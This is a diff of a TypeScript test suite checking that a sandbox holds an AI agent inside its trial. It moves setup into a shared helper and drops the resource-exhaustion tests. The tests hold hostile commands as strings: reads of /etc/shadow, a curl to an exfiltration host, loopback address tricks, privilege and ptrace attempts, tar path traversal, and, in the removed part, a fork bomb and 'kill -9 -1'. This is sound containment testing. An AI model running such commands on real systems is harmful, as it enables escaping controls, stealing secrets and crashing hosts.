@@ -1,111 +1,28 @@
 import assert from 'node:assert/strict'
-import { mkdtempSync, rmSync, writeFileSync } from 'node:fs'
-import { createServer } from 'node:net'
-import { networkInterfaces, tmpdir } from 'node:os'
+import { execFileSync } from 'node:child_process'
+import { existsSync, writeFileSync } from 'node:fs'
+import { networkInterfaces } from 'node:os'
 import { join } from 'node:path'
 import { after, before, describe, test } from 'node:test'
-import { limitsOf, survivors, textsOf } from './conformance.ts'
-import { mergedAuthorities, openAuthority } from './proxy/authority.ts'
-import { type Gateway, type GatewayStep, openGateway } from './proxy/gateway.ts'
-import { openSandbox, type Sandbox, type SandboxLimits, type SandboxOutcome } from './sandbox.ts'
+import { limitsOf, textsOf } from './conformance.ts'
+import { openTrialUnderAttack, SECRET, type TrialUnderAttack } from './trial-under-attack.ts'
 
-const SECRET = 'the-secret-of-the-host'
-const here = mkdtempSync(join(tmpdir(), 'hostile-'))
-let sandbox: Sandbox
-let gateway: Gateway
-let otherGateway: Gateway
-let authorities = ''
-const steps: GatewayStep[] = []
-const listener = createServer((socket) => socket.end('control plane'))
-let listenerPort = 0
+let trial: TrialUnderAttack
+const attack: TrialUnderAttack['attack'] = (command, limits) => trial.attack(command, limits)
+const isRefused: TrialUnderAttack['isRefused'] = (command) => trial.isRefused(command)
 
 before(async () => {
   process.env.HOSTILE_TEST_SECRET = SECRET
-  writeFileSync(join(here, 'expected.txt'), SECRET, { mode: 0o644 })
-  const opened = await openSandbox({
-    choice: 'bubblewrap',
-    stateDir: here,
-    searchPath: process.env.PATH ?? '',
-  })
-  if ('unavailable' in opened) throw new Error(opened.unavailable)
-  sandbox = opened.sandbox
-  const authority = await openAuthority({ stateDir: join(here, 'authority'), now: () => new Date() })
-  authorities = await mergedAuthorities(authority)
-  const options = {
-    authority,
-    route: (host: string) =>
-      host === 'twin.example' ? ({ kind: 'twin', service: 'chat' } as const) : undefined,
-    onRequest: async () => ({ status: 200, headers: {}, body: 'twin' }),
-  }
-  gateway = await openGateway({ ...options, onStep: (step) => steps.push(step) })
-  otherGateway = await openGateway(options)
-  await new Promise<void>((resolve) => listener.listen(0, '0.0.0.0', resolve))
-  const address = listener.address()
-  listenerPort = address && typeof address === 'object' ? address.port : 0
+  trial = await openTrialUnderAttack(process.env.PATH ?? '')
 })
-
 after(async () => {
-  await gateway[Symbol.asyncDispose]()
-  await otherGateway[Symbol.asyncDispose]()
-  await sandbox[Symbol.asyncDispose]()
-  listener.close()
-  rmSync(here, { recursive: true })
+  await trial[Symbol.asyncDispose]()
 })
-
-/** Runs an attack as an agent's command, with network and collection, as a trial would. */
-function attack(command: string, limits: Partial<SandboxLimits> = {}): Promise<SandboxOutcome> {
-  return sandbox.run({
-    command,
-    files: { 'attack.py': PYTHON },
-    limits: limitsOf({ wallMs: 15_000, ...limits }),
-    network: { gatewaySocket: gateway.socketPath, hosts: ['twin.example'], authorities },
-    collect: { maxFiles: 20, maxBytes: 1_000_000 },
-  })
-}
-
-/** Attacks that a shell cannot make. Each prints "refused" with the kernel's reason, or "worked". */
-const PYTHON = `
-import ctypes, os, socket, sys
-libc = ctypes.CDLL(None, use_errno=True)
-def connect(host, port):
-    s = socket.socket(); s.settimeout(2); s.connect((host, int(port))); print(s.recv(100))
-def ptrace(pid):
-    if libc.ptrace(16, int(pid), None, None) != 0: raise OSError(ctypes.get_errno(), "ptrace")
-def raw(): socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_ICMP)
-def packet(): socket.socket(socket.AF_PACKET, socket.SOCK_RAW, 3)
-def udp(host):
-    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); s.settimeout(1); s.sendto(b"x" * 30, (host, 53)); s.recv(10)
-def unix(path): s = socket.socket(socket.AF_UNIX); s.connect(path)
-def chroot(): os.chroot("/tmp")
-def setuid(): os.setuid(0)
-def mknod(): os.mknod("/tmp/disk", 0o60666, os.makedev(8, 0))
-def write(path): open(path, "w").write("x")
-def read(path): print(open(path).read())
-def limits(pid):
-    import resource
-    resource.prlimit(int(pid), resource.RLIMIT_NPROC, (100000, 100000))
-def memory():
-    os.memfd_create('x')
-def segment():
-    if libc.shmget(0, 4096, 0o1600) < 0: raise OSError(ctypes.get_errno(), 'shmget')
-def module():
-    if libc.syscall(105, b"", 0, b"") != 0: raise OSError(ctypes.get_errno(), "init_module")
-try:
-    globals()[sys.argv[1]](*sys.argv[2:]); print("worked")
-except Exception as e:
-    print("refused", type(e).__name__, e)
-`
-
-async function isRefused(command: string): Promise<void> {
-  const { stdout } = await attack(command)
-  assert.match(stdout.text, /refused/)
-  assert.doesNotMatch(stdout.text, /worked/)
-}
 
 describe('An agent cannot look out of its sandbox', () => {
   test('files of the host are not there', async () => {
     const { stdout } = await attack(
-      `cat ${here}/expected.txt; ls ${here} ${process.cwd()} /home /mnt /var /srv; cat /etc/shadow; true`,
+      `cat ${trial.folder}/expected.txt; ls ${trial.folder} ${process.cwd()} /home /mnt /var /srv; cat /etc/shadow; true`,
     )
     assert.doesNotMatch(stdout.text, new RegExp(SECRET))
     assert.doesNotMatch(stdout.text, /package\.json|root:/)
@@ -128,7 +45,7 @@ describe('An agent cannot look out of its sandbox', () => {
     const [, looking] = await Promise.all([
       attack('echo mine > /tmp/mine; echo mine > $WORK_DIR/mine; echo mine > /dev/shm/mine; sleep 0.5'),
       attack(
-        `sleep 0.2; cat /tmp/mine $WORK_DIR/mine /dev/shm/mine; python3 attack.py unix ${otherGateway.socketPath}`,
+        `sleep 0.2; cat /tmp/mine $WORK_DIR/mine /dev/shm/mine; python3 attack.py unix ${trial.otherGateway.socketPath}`,
       ),
     ])
     assert.doesNotMatch(looking.stdout.text, /mine/)
@@ -160,13 +77,13 @@ describe('An agent cannot look out of its sandbox', () => {
 
 describe('An agent cannot reach what its trial does not contain', () => {
   test('the control plane on the host’s loopback is not reachable', () =>
-    isRefused(`python3 attack.py connect 127.0.0.1 ${listenerPort}`))
+    isRefused(`python3 attack.py connect 127.0.0.1 ${trial.controlPort}`))
 
   test('the host’s own network addresses are not reachable', async () => {
     const addresses = Object.values(networkInterfaces()).flatMap((list) => list ?? [])
     const outward =
       addresses.find(({ internal, family }) => !internal && family === 'IPv4')?.address ?? '10.0.0.1'
-    await isRefused(`python3 attack.py connect ${outward} ${listenerPort}`)
+    await isRefused(`python3 attack.py connect ${outward} ${trial.controlPort}`)
   })
 
   test('metadata addresses are not reachable, directly or through the gateway', async () => {
@@ -182,18 +99,18 @@ describe('An agent cannot reach what its trial does not contain', () => {
   test('an unknown host is refused in words, and the refusal is a step', async () => {
     const { stdout } = await attack('curl -s https://exfiltration.example/?q=1')
     assert.match(stdout.text, /not part of this trial/)
-    const step = steps.find(({ host }) => host === 'exfiltration.example')
+    const step = trial.steps.find(({ host }) => host === 'exfiltration.example')
     assert.deepEqual([step?.outcome, step?.status, step?.path], ['refused', 403, '/?q=1'])
   })
 
   test('the gateway is no way to the host’s loopback, by any spelling', async () => {
     const targets = [
-      `127.0.0.1:${listenerPort}`,
-      `localhost:${listenerPort}`,
-      `[::1]:${listenerPort}`,
-      `0x7f.1:${listenerPort}`,
-      `[::ffff:127.0.0.1]:${listenerPort}`,
-      `2130706433:${listenerPort}`,
+      `127.0.0.1:${trial.controlPort}`,
+      `localhost:${trial.controlPort}`,
+      `[::1]:${trial.controlPort}`,
+      `0x7f.1:${trial.controlPort}`,
+      `[::ffff:127.0.0.1]:${trial.controlPort}`,
+      `2130706433:${trial.controlPort}`,
     ]
     const calls = targets.flatMap((target) => [
       `curl -s --noproxy "" -x http://127.0.0.1:3128 http://${target}/`,
@@ -324,17 +241,16 @@ describe('An agent cannot forge or poison what comes after it', () => {
   })
 
   test('a bundle that climbs out reaches only the sandbox', async () => {
-    const { execFileSync } = await import('node:child_process')
-    const source = join(here, 'climb')
+    const source = join(trial.folder, 'climb')
     writeFileSync(source, 'climbed')
     const bundle = execFileSync('tar', [
       '-czPf',
       '-',
       '--transform',
-      `s,.*climb,../../../../${here}/climbed,`,
+      `s,.*climb,../../../../${trial.folder}/climbed,`,
       source,
     ])
-    const outcome = await sandbox.run({
+    const outcome = await trial.sandbox.run({
       command: 'ls /',
       bundle,
       limits: limitsOf({}),
@@ -342,104 +258,6 @@ describe('An agent cannot forge or poison what comes after it', () => {
       collect: { maxFiles: 1, maxBytes: 1 },
     })
     assert.ok(['unfit', 'exited'].includes(outcome.ended))
-    const { existsSync } = await import('node:fs')
-    assert.ok(!existsSync(join(here, 'climbed')))
-  })
-})
-
-describe('An agent cannot exhaust the machine', () => {
-  test('artifacts by the thousand are cut at the limit', async () => {
-    const { collected } = await attack('cd $WORK_DIR; for i in $(seq 3000); do : > f$i; done')
-    assert.equal(collected.files.length, 20)
-    assert.ok(collected.truncated)
-  })
-
-  test('an artifact of 10 GiB is refused, real or sparse', async () => {
-    const { stdout, collected } = await attack(
-      'cd $WORK_DIR; truncate -s 10G sparse 2>&1; head -c 10G /dev/zero > big; ls -l; echo small > output.txt',
-    )
-    assert.doesNotMatch(stdout.text, /\s10737418240\s/)
-    assert.deepEqual(
-      Object.keys(textsOf(collected.files)).sort(),
-      ['output.txt', 'sparse'].filter((name) => textsOf(collected.files)[name] !== undefined),
-    )
-  })
-
-  test('no writable folder holds more than its quota', async () => {
-    const script =
-      'for d in $WORK_DIR /tmp $HOME /dev/shm; do for i in 1 2 3 4; do head -c 30000000 /dev/zero > $d/$i; done; du -sk $d; rm $d/?; done 2>/dev/null'
-    const { stdout } = await attack(script, { workBytes: 50_000_000 })
-    const sizes = [...stdout.text.matchAll(/^(\d+)/gm)].map((match) => Number(match[1]))
-    assert.equal(sizes.length, 4)
-    assert.ok(
-      sizes.every((size) => size < 70_000),
-      stdout.text,
-    )
-  })
-
-  test('files without number end the job', async () => {
-    const make = 'import os\nfor n in range(10**7): os.close(os.open("/tmp/%d" % n, os.O_CREAT))'
-    assert.equal((await attack(`python3 -S -c '${make}'`, { workFiles: 3_000 })).ended, 'files')
-  })
-
-  test('a fork bomb is held, ends, and leaves nothing', async () => {
-    const mark = `bomb${process.pid}`
-    const outcome = await attack(`sh -c 'b() { b | b & }; b; : ${mark}; sleep 300'`, {
-      wallMs: 2_000,
-      processes: 64,
-    })
-    assert.ok(['timeout', 'exited', 'killed'].includes(outcome.ended))
-    assert.ok(outcome.usage.peakProcesses <= 64 + 24)
-    assert.deepEqual(survivors(mark), [])
-  })
-
-  test('memory in one process or in many is held', async () => {
-    const limits = { memoryBytes: 200 * 2 ** 20, fileBytes: 10_000_000, workBytes: 50_000_000 }
-    const one = await attack('python3 -S -c "x = bytearray(10**9); print(len(x))"', limits)
-    assert.doesNotMatch(one.stdout.text, /1000000000/)
-    const hog = 'x = bytearray(10**8)\nfor i in range(0, len(x), 4096): x[i] = 1\nimport time; time.sleep(20)'
-    const many = await attack(`for i in 1 2 3 4 5 6; do python3 -S -c '${hog}' & done; wait`, limits)
-    assert.equal(many.ended, 'memory')
-  })
-
-  test('memory that belongs to no process and no folder cannot be had', () =>
-    isRefused('python3 attack.py memory; python3 attack.py segment'))
-
-  test('a processor hog that ignores signals ends at its time', async () => {
-    const outcome = await attack(`trap '' TERM INT HUP; while :; do :; done`, { wallMs: 800 })
-    assert.equal(outcome.ended, 'timeout')
-    assert.ok(outcome.durationMs < 5_000)
-  })
-
-  test('daemons in sessions of their own do not survive', async () => {
-    const mark = `daemon${process.pid}`
-    const daemon = `import os,time\nif os.fork(): os._exit(0)\nos.setsid()\nif os.fork(): os._exit(0)\n"${mark}"; time.sleep(300)`
-    await attack(`python3 -S -c '${daemon}'; sleep 0.1`)
-    assert.deepEqual(survivors(mark), [])
-  })
-
-  test('killing everything it can, the launcher too, only ends itself', async () => {
-    for (let attempt = 0; attempt < 5; attempt++) {
-      const outcome = await attack('kill -9 2; sleep 5')
-      assert.equal(outcome.ended, 'killed', 'never the platform’s fault, however quick it was')
-      assert.deepEqual(outcome.collected.files, [])
-    }
-    const all = await attack('kill -9 -1; sleep 5')
-    assert.ok(['killed', 'exited'].includes(all.ended))
-    assert.equal((await attack('echo fine')).stdout.text, 'fine\n')
-  })
-
-  test('an endless flood of output is cut and ended', async () => {
-    const outcome = await attack('yes', { outputBytes: 10_000 })
-    assert.equal(outcome.ended, 'output')
-    assert.equal(outcome.stdout.text.length, 10_000)
-  })
-
-  test('hundreds of open connections cost only its own trial', async () => {
-    const flood =
-      'import socket\ns=[]\nfor i in range(900):\n  c=socket.socket(); c.settimeout(1)\n  try: c.connect(("127.0.0.1",3128)); s.append(c)\n  except OSError: break\nprint(len(s) > 0)'
-    const { stdout } = await attack(`python3 -S -c '${flood}'`)
-    assert.equal(stdout.text, 'True\n')
-    assert.equal((await attack('curl -s https://twin.example/')).stdout.text, 'twin')
+    assert.ok(!existsSync(join(trial.folder, 'climbed')))
   })
 })
